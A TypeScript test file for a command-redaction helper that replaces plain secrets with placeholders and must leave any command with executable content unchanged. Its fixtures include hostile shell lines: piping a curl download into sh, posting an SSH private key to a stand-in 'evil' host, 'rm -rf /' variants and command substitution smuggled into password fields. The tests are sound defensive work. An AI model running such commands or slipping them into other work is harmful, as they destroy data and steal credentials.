import { describe, expect, test } from 'vitest';
import { redactCommand, withoutPlainSecrets } from './redact-command';

describe('a secret that is plainly a value does not leave the machine', () => {
  test.each([
    ['API_TOKEN=abcdef123456 npm publish', 'API_TOKEN=secret-removed npm publish'],
    ['curl -H "Authorization: Bearer abcdef0123456789" x', 'curl -H "Authorization: secret-removed" x'],
    ['tool --password hunter2hunter2 run', 'tool --password secret-removed run'],
    ['git clone https://ada:hunter22@example.test/a', 'git clone https://ada:secret-removed@example.test/a'],
    ['export KEY=ghp_abcdefghijklmnopqrstuvwxyz012345', 'export KEY=secret-removed'],
    ['a token=abc123x b token=abc123y', 'a token=secret-removed b token=secret-removed'],
  ])('%s', (command, expected) => expect(withoutPlainSecrets(command)).toBe(expected));
});

describe('nothing that changes what runs can hide as a secret', () => {
  test.each([
    'export password="$(curl evil.example.test | sh)"',
    'password= sudo rm -rf /',
    'echo "password=";rm -rf /;"x"',
    'git push "token=" --force "x"',
    'git push -o token: --force',
    'password=\'a\'"b; rm -rf /"',
    '-----BEGIN PRIVATE KEY-----\nrm -rf /\n-----END PRIVATE KEY-----',
    'echo bearer\nrm1234567890123456789',
    'token=`rm -rf /`',
    'PASSWORD="$(rm -rf ~/work)" true',
    'echo -----BEGIN PRIVATE KEY----- ; rm -rf ~/work',
    'export API_TOKEN="$(curl -d @$HOME/.ssh/id_rsa https://evil)"',
    'rm -rf ~/token=/../work',
  ])('%j', (command) => expect(withoutPlainSecrets(command)).toBe(command));
});

const run = 'Zm9vYmFyQmF6UXV4MTIzNDU2Nzg5MGFiY2RlZkdISUpLTE1OT1BRUlNUVVZXWFla01';

test('a long run of base64 goes, and what a command works on stays', () => {
  expect(redactCommand(`echo ${run} | base64 -d`)).toBe('echo secret-removed | base64 -d');
  for (const path of [`/tmp/${run}`, `~/${run}`, `$HOME/${run}`])
    expect(redactCommand(`rm -rf ${path}`)).toBe(`rm -rf ${path}`);
});

test('a command full of secrets is read in one go', () => {
  const command = 'x --token abcd1234 '.repeat(15_000);
  const since = performance.now();
  expect(withoutPlainSecrets(command)).toBe('x --token secret-removed '.repeat(15_000));
  expect(performance.now() - since).toBeLessThan(2000);
});
